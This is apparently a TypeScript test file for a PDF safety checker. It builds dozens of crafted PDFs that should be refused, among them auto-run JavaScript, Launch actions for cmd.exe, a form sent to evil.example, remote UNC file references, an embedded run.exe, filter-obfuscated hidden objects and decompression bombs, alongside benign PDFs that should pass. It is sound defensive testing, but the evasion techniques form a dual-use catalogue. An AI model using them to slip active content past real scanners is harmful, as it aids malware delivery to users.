import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import { PDFDocument, StandardFonts } from "@cantoo/pdf-lib";
import type { DocumentDanger } from "@hearth/domain/disputes/documents";
import PDFKit from "pdfkit";
import { describe, expect, it } from "vitest";
import { drawPdf } from "../pdf/pdf.ts";
import { makeJpg } from "../testing/documents.ts";
import {
  deflated,
  inAscii85,
  inHex,
  inLzw,
  inRuns,
  objectStream,
  onePage,
  type Packed,
  packedWith,
  plain,
  script,
  writePdf,
} from "../testing/pdf-files.ts";
import { dangerOfPdf } from "./judge-pdf.ts";

type Pack = (content: Buffer) => Packed;

/** A document that opens with object 5, which is packed in object 4. */
function hidden(pack: Pack, { object = script, keys = "", keyword = "stream\n", beforeObj = " " } = {}): Buffer {
  const packed = { ...objectStream({ 5: object }, pack, keys), keyword, beforeObj };
  return writePdf([...onePage("/OpenAction 5 0 R"), packed], { packed: { 5: [4, 0] } });
}

/** A document whose catalog or page has these keys, with these objects from number 4 on. */
const withCatalog = (keys: string, ...values: string[]) => writePdf([...onePage(keys), ...values.map((value) => ({ value }))]);
const withPage = (keys: string, ...values: string[]) => writePdf([...onePage("", keys), ...values.map((value) => ({ value }))]);

/** Data of a stream, followed by a checksum that is wrong. */
function corrupted(content: Buffer): Packed {
  const data = deflateSync(content);
  data.writeUInt32BE(0, data.length - 4);
  return { data, filter: "/FlateDecode" };
}

/** Data with a window size in its header that some readers do not check. */
function withHugeWindow(content: Buffer): Packed {
  const data = deflateSync(content);
  data.writeUInt16BE(0xf885 - (0xf885 % 31) + 31, 0);
  return { data, filter: "/FlateDecode" };
}

const image = (filter: string) => (content: Buffer) => ({ data: content, filter });
const file = "<< /Type /Filespec /F (run.exe) /EF << /F 5 0 R >> >>";
const program = { value: "<< /Type /EmbeddedFile >>", stream: deflated("MZ") };
const stale = writePdf(onePage("/OpenAction 4 0 R").concat({ value: script }));

/** Files that do something when they are opened, or carry another file, with the reason against each. */
const dangerous: Record<string, [file: Buffer, danger: DocumentDanger]> = {
  "a script that runs at opening": [withCatalog("/OpenAction 4 0 R", script), "active"],
  "a script without spaces": [withCatalog("/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "active"],
  "a script with an escaped name": [withCatalog("/OpenAction 4 0 R", "<< /S /J#61va#53cript /JS (a) >>"), "active"],
  "a script with every letter escaped": [withCatalog("/OpenAction 4 0 R", "<< /S /#4A#61#76#61#53#63#72#69#70#74 /JS (a) >>"), "active"],
  "a script whose type is another object": [withCatalog("/OpenAction 4 0 R", "<< /S 5 0 R /JS (a) >>", "/JavaScript"), "active"],
  "a script in the names of the document": [withCatalog("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", script), "active"],
  "a script when a page is shown": [withPage(`/AA << /O ${script} >>`), "active"],
  "a script of an annotation": [withPage(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${script} >>]`), "active"],
  "a script of a field": [withCatalog(`/AcroForm << /Fields [<< /T (a) /FT /Tx /AA << /K ${script} >> >>] >>`), "active"],
  "a script of an outline entry": [withCatalog(`/Outlines << /First << /Title (a) /A ${script} >> >>`), "active"],
  "a script after a harmless action": [withCatalog(`/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next ${script} >>`), "active"],
  "a script of a rendition": [withCatalog("/OpenAction << /S /Rendition /JS (app.alert(1)) >>"), "active"],
  "a script in a stream": [
    writePdf([...onePage("/OpenAction << /S /JavaScript /JS 4 0 R >>"), { value: "<< >>", stream: deflated("app.alert(1)") }]),
    "active",
  ],
  "a script that an update added": [Buffer.concat([writePdf(onePage()), stale]), "active"],
  "a script that an update removed": [Buffer.concat([stale, writePdf(onePage())]), "active"],
  "a script in a comment, where a table points": [writePdf(onePage(), { before: `%PDF-1.7\n% 5 0 obj ${script}\n` }), "active"],
  "a script in a string, where a table points": [withCatalog("", `(5 0 obj ${script} endobj)`), "active"],
  "a script in the data of a picture": [
    writePdf([...onePage(), { value: "<< /Subtype /Image >>", stream: { data: Buffer.from(script), filter: "/DCTDecode" } }]),
    "active",
  ],
  "a script behind the end": [writePdf(onePage(), { after: `5 0 obj\n${script}\nendobj\n` }), "active"],
  "a script, cut off": [writePdf([...onePage("/OpenAction 4 0 R"), { value: script }]).subarray(0, 330), "active"],

  "a program to start": [withCatalog("/OpenAction << /S /Launch /F (cmd.exe) >>"), "active"],
  "a program that a link starts": [
    withPage("/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /Win << /F (cmd.exe) >> >> >>]"),
    "active",
  ],
  "a form that is sent": [withCatalog("/OpenAction << /S /SubmitForm /F (https://evil.example) >>"), "active"],
  "data that is imported": [withCatalog("/OpenAction << /S /ImportData /F (a.fdf) >>"), "active"],
  "a file on a server of a stranger": [withPage("/AA << /O << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >> >>"), "active"],
  "a file within the file that is opened": [withCatalog("/OpenAction << /S /GoToE /T << /R /C /N (a.pdf) >> >>"), "active"],
  "an XFA form": [withCatalog("/AcroForm << /Fields [] /XFA 4 0 R >>", "(<xdp:xdp><script>a</script></xdp:xdp>)"), "active"],
  "an XFA form among packed objects": [
    writePdf([...onePage("/AcroForm 5 0 R"), objectStream({ 5: "<< /Fields [] /XFA 6 0 R >>" })], { packed: { 5: [4, 0] } }),
    "active",
  ],
  "an embedded program": [
    writePdf([...onePage("/Names << /EmbeddedFiles << /Names [(run.exe) 4 0 R] >> >>"), { value: file }, program]),
    "active",
  ],
  "an associated program": [writePdf([...onePage("/AF [4 0 R]"), { value: file }, program]), "active"],
  "an embedded program without its type": [
    writePdf([...onePage("/AF [4 0 R] /Names << /EmbeddedFiles 6 0 R >>"), { value: file }, { ...program, value: "<< >>" }]),
    "active",
  ],
  "a portfolio": [
    writePdf([...onePage("/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"), { value: file }, program]),
    "active",
  ],
  "a file in an annotation": [withPage(`/Annots [<< /Subtype /FileAttachment /FS ${file} >>]`), "active"],
  "a film": [withPage("/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]"), "active"],
  "an old film": [withPage("/Annots [<< /Subtype /Movie /Movie << /F (a.avi) >> >>]"), "active"],
  "a three-dimensional scene": [withPage("/Annots [<< /Subtype /3D /3DD 4 0 R >>]"), "active"],
  "data in another file": [
    writePdf([...onePage("", "/Contents 4 0 R"), { value: "<< /F (\\\\\\\\evil\\\\a) >>", stream: plain("") }]),
    "active",
  ],

  "a script among packed objects": [hidden(deflated), "active"],
  "a script among unpacked objects of an object stream": [hidden(plain), "active"],
  "a script packed in hex, with the word obj in its dictionary": [hidden(inHex, { keys: "/Note (obj)" }), "active"],
  "a script packed in hex, with a dictionary of more than 1,000 characters": [
    hidden(inHex, { keys: `/Note (${"x".repeat(2_000)})` }),
    "active",
  ],
  "a script packed twice": [hidden(packedWith(deflated, deflated)), "active"],
  "a script packed by three filters": [hidden(packedWith(inAscii85, deflated, inHex)), "active"],
  "a script packed in base 85": [hidden(inAscii85), "active"],
  "a script packed by LZW": [hidden(inLzw), "active"],
  "a script packed in runs": [hidden(inRuns), "active"],
  "a script packed by a filter with a short name": [hidden((content) => ({ ...inHex(content), filter: "/AHx" })), "active"],
  "a script packed by a filter with an escaped name": [hidden((content) => ({ ...deflated(content), filter: "/F#6cateDecode" })), "active"],
  "a packed script with an escaped name": [hidden(deflated, { object: "<< /S /Java#53cript /JS (a) >>" }), "active"],
  "a packed script with the word endstream in its data": [
    hidden((content) => ({ ...plain(content), data: Buffer.concat([Buffer.from("endstream endobj "), content]) })),
    "active",
  ],
  "a packed script with a wrong length": [hidden(deflated, { keys: "/Length 3" }), "active"],
  "a packed script whose length is another object": [hidden(inHex, { keys: "/Length 6 0 R" }), "active"],
  "a packed script after a comment": [hidden(deflated, { beforeObj: " % 1\n" }), "active"],
  "a packed script after a long comment": [hidden(deflated, { beforeObj: ` %${"x".repeat(10_000)}\n` }), "active"],
  "a packed script within the data of a picture": [
    writePdf([...onePage(), { value: "<< /Subtype /Image >>", stream: { data: hidden(deflated), filter: "/DCTDecode" } }]),
    "active",
  ],
  "a packed script that is cut off": [hidden(deflated).subarray(0, hidden(deflated).indexOf("endstream") - 8), "active"],
  "a packed script behind the end": [writePdf(onePage(), { after: hidden(inHex) }), "active"],
  "a packed script in an object stream without its type": [
    writePdf([...onePage("/OpenAction 5 0 R"), { ...objectStream({ 5: script }), value: "<< /N 1 /First 4 >>" }], {
      packed: { 5: [4, 0] },
    }),
    "active",
  ],

  "objects behind a blank and no end of line": [hidden(deflated, { keyword: "stream " }), "sealed"],
  "objects behind a blank": [hidden(deflated, { keyword: "stream \n" }), "sealed"],
  "objects behind a carriage return": [hidden(deflated, { keyword: "stream\r" }), "sealed"],
  "objects behind other words": [hidden(deflated, { keyword: "stream of objects\n" }), "sealed"],
  "objects with a second filter of the same key": [hidden(inHex, { keys: "/Filter /FlateDecode" }), "sealed"],
  "objects with a second filter by its short key": [hidden(inHex, { keys: "/F /FlateDecode" }), "sealed"],
  "objects with a key that is escaped twice": [hidden(deflated, { keys: "/#2346ilter /ASCIIHexDecode" }), "sealed"],
  "objects whose filter is another object": [
    writePdf(
      [
        ...onePage("/OpenAction 5 0 R"),
        { ...objectStream({ 5: script }, (content) => ({ ...deflated(content), filter: "6 0 R" })) },
        { value: "null" },
        { value: "/FlateDecode" },
      ],
      { packed: { 5: [4, 0] } },
    ),
    "sealed",
  ],
  "objects with a predictor": [hidden(deflated, { keys: "/DecodeParms << /Predictor 12 >>" }), "sealed"],
  "objects with a predictor by its short key": [hidden(deflated, { keys: "/DP << /Predictor 12 >>" }), "sealed"],
  "objects in a picture of two colours": [hidden(image("/JBIG2Decode"), { object: "<< >>" }), "sealed"],
  "objects behind a filter of a stranger": [hidden(image("/MyDecode"), { object: "<< >>" }), "sealed"],
  "objects encrypted alone": [hidden(image("/Crypt"), { object: "<< >>" }), "sealed"],
  "objects with a wrong checksum": [hidden(corrupted), "sealed"],
  "objects with a window that is too large": [hidden(withHugeWindow), "sealed"],
  "a dictionary that is not closed": [withCatalog("", "<< /A << /B 1 >>"), "sealed"],
  "a dictionary with a value too many": [withCatalog("", "<< /A 1 2 /B 3 >>"), "sealed"],
  "dictionaries of too many levels": [withCatalog("", `<< /A ${"[".repeat(200_000)}${"]".repeat(200_000)} >>`), "sealed"],
  "a number of too many digits": [withCatalog("", `<< /A ${"9".repeat(40)} >>`), "sealed"],
  "more names than a document has": [
    withCatalog("", `<< ${Array.from({ length: 20_001 }, (_, at) => `/n${at} 1`).join(" ")} >>`),
    "sealed",
  ],
  "dictionaries that overlap": [withCatalog("", `<< /A (${"1 0 obj << /B (".repeat(300)}${")>>".repeat(300)}) >>`), "sealed"],
  "comments that overlap": [withCatalog("", `1\n%${"1 0 obj %".repeat(40_000)}`), "sealed"],
  "a password": [writePdf(onePage(), { trailer: "/Encrypt << /Filter /Standard >>" }), "sealed"],

  "more than 50 MB in a stream": [writePdf([...onePage(), { value: "<< >>", stream: deflated(Buffer.alloc(51 * 1024 ** 2)) }]), "unpacks"],
  "more than 50 MB in two streams": [
    writePdf([...onePage(), ...[2e7, 4e7].map((bytes) => ({ value: "<< >>", stream: deflated(Buffer.alloc(bytes)) }))]),
    "unpacks",
  ],
  "more than 50 MB, packed three times": [
    writePdf([...onePage(), { value: "<< >>", stream: packedWith(deflated, deflated, deflated)(Buffer.alloc(60 * 1024 ** 2)) }]),
    "unpacks",
  ],
  "more than 50 MB before a filter that fails": [
    writePdf([
      ...onePage(),
      ...[1, 2].map(() => ({
        value: "<< >>",
        stream: { ...deflated(Buffer.alloc(30 * 1024 ** 2)), filter: "[/FlateDecode /FlateDecode]" },
      })),
    ]),
    "unpacks",
  ],
  "more than 50 MB in runs of runs": [
    writePdf([...onePage(), { value: "<< >>", stream: { data: Buffer.alloc(20_000, 0x81), filter: "[/RunLengthDecode /RL]" } }]),
    "unpacks",
  ],
};

describe("a PDF is refused", () => {
  it.each(Object.entries(dangerous))("that has %s", (_, [content, danger]) => expect(dangerOfPdf(content)).toBe(danger));
});

/** Draws a page with PDFKit. */
async function drawn(pdfVersion: "1.3" | "1.4" | "1.5" | "1.6" | "1.7" | "1.7ext3", draw: (pdf: InstanceType<typeof PDFKit>) => void) {
  const pdf = new PDFKit({ pdfVersion });
  const chunks: Buffer[] = [];
  pdf.on("data", (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((resolve) => pdf.on("end", resolve));
  draw(pdf);
  pdf.end();
  await ended;
  return Buffer.concat(chunks);
}

/** Writes a document with pdf-lib, which packs its objects. */
async function written(draw: (pdf: PDFDocument) => Promise<void> | void): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  await draw(pdf);
  return Buffer.from(await pdf.save());
}

const scan = (bytes: number) =>
  writePdf([
    ...onePage("", "/Contents 5 0 R /Resources << /XObject << /Im 4 0 R >> >>"),
    {
      value: "<< /Type /XObject /Subtype /Image /Width 2480 /Height 3508 /ColorSpace /DeviceRGB /BitsPerComponent 8 >>",
      stream: { data: Buffer.concat([makeJpg(), randomBytes(bytes)]), filter: "/DCTDecode" },
    },
    { value: "<< >>", stream: deflated("q 612 0 0 792 0 0 cm /Im Do Q") },
  ]);

/** Files as people have them. */
const honest: Record<string, () => Buffer | Promise<Buffer>> = {
  "of our own": () => drawPdf("Receipt", (pdf) => void pdf.font("Helvetica").text("Paid")),
  scanned: () => scan(200_000),
  "scanned in 10 MB": () => scan(10_000_000),
  "of PDF 1.3": () => drawn("1.3", (pdf) => void pdf.text("Notice")),
  "of PDF 1.4 with a link": () => drawn("1.4", (pdf) => void pdf.text("Notice", { link: "https://example.com" })),
  "of PDF 1.5 with an outline": () => drawn("1.5", (pdf) => void pdf.outline.addItem("First")),
  "of PDF 1.6 with a note": () => drawn("1.6", (pdf) => void pdf.note(1, 1, 9, 9, "Read this")),
  "of PDF 1.7 with a form": () =>
    drawn("1.7", (pdf) => {
      pdf.font("Helvetica").initForm();
      pdf.formText("name", 10, 10, 200, 20, { value: "Ada" });
      pdf.formCheckbox("agreed", 10, 50, 20, 20);
    }),
  "of PDF 1.7 with pictures": () => drawn("1.7ext3", (pdf) => void pdf.rect(1, 1, 9, 9).fill("red")),
  "of PDF 2.0": () => writePdf(onePage(), { version: "2.0" }),
  "with packed objects": () =>
    written(async (pdf) => pdf.addPage().drawText("Notice", { font: await pdf.embedFont(StandardFonts.Courier) })),
  "with a packed form": () =>
    written((pdf) => {
      const field = pdf.getForm().createTextField("name");
      field.addToPage(pdf.addPage());
      field.setText("Ada");
    }),
  "with objects packed in base 85": () =>
    writePdf([...onePage("/Metadata 5 0 R"), objectStream({ 5: "<< /Title (Notice) >>" }, packedWith(deflated, inAscii85))], {
      packed: { 5: [4, 0] },
    }),
  "with unpacked objects in an object stream": () => hidden(plain, { object: "[3 0 R /Fit]" }),
  "with a colour profile": () =>
    writePdf([...onePage(), { value: "<< /N 3 /Alternate /DeviceRGB >>", stream: deflated(randomBytes(3_000)) }]),
  "with a fax": () =>
    writePdf([
      ...onePage(),
      {
        value: "<< /Subtype /Image /DecodeParms << /K -1 /Columns 1728 >> >>",
        stream: { data: randomBytes(9_000), filter: "/CCITTFaxDecode" },
      },
    ]),
  "with a font whose length is another object": () =>
    writePdf([...onePage(), { value: "<< /Length1 9 0 R /Length 5 0 R >>", stream: deflated(randomBytes(2_000)) }, { value: "2000" }]),
  "with a stream behind a carriage return": () =>
    writePdf([...onePage(), { value: "<< >>", stream: deflated("q Q"), keyword: "stream\r" }]),
  "with a predictor in its pictures": () =>
    writePdf([...onePage(), { value: "<< /DecodeParms << /Predictor 15 /Columns 9 >> >>", stream: deflated(randomBytes(90)) }]),
  "with a page that speaks of scripts": () =>
    writePdf([...onePage("", "/Contents 4 0 R"), { value: "<< >>", stream: deflated("BT (On JavaScript and /Launch pads) Tj ET") }]),
  "that opens at a page": () => withCatalog("/OpenAction [3 0 R /Fit]"),
  "that opens at a page by an action": () => withCatalog("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
  "with a picture that screens its ground": () => withPage("/Resources << /ExtGState << /G << /BM /Screen >> >> >>"),
  "with a form that resets itself": () => withCatalog("/AcroForm << /Fields [<< /FT /Btn /A << /S /ResetForm >> >>] >>"),
  "that was updated": () => Buffer.concat([writePdf(onePage()), writePdf(onePage("/Lang (en)"))]),
  "with two kinds of tables": () => {
    const packed = writePdf([...onePage(), objectStream({ 5: "<< >>" })], { packed: { 5: [4, 0] } });
    return Buffer.concat([packed, writePdf(onePage(), { trailer: `/XRefStm ${packed.lastIndexOf("/XRef") - 20}` })]);
  },
  "with bytes before its header": () => writePdf(onePage(), { before: "\r\n\r\n" }),
  "with a wrong table": () => Buffer.from(writePdf(onePage()).toString("latin1").replaceAll("00000 n", "00007 n"), "latin1"),
  "with a wrong length": () => writePdf([...onePage("", "/Contents 4 0 R"), { value: "<< /Length 99999 >>", stream: deflated("q Q") }]),
  "that ends within a picture": () => scan(50_000).subarray(0, 20_000),
};

describe("a PDF is accepted", () => {
  it.each(Object.entries(honest))("%s", async (_, make) => expect(dangerOfPdf(await make())).toBeNull());
});
